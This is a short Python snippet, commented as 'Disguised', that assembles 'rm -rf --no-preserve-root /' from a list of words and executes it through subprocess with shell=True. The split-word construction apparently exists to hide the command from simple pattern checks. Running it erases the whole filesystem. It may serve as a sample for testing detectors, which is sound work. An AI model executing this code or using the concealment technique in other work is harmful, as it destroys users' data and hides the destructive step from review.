# Disguised: the words kept in a list and joined later.
import subprocess

words = ["rm", "-rf", "--no-preserve-root", "/"]
subprocess.call(" ".join(words), shell=True)
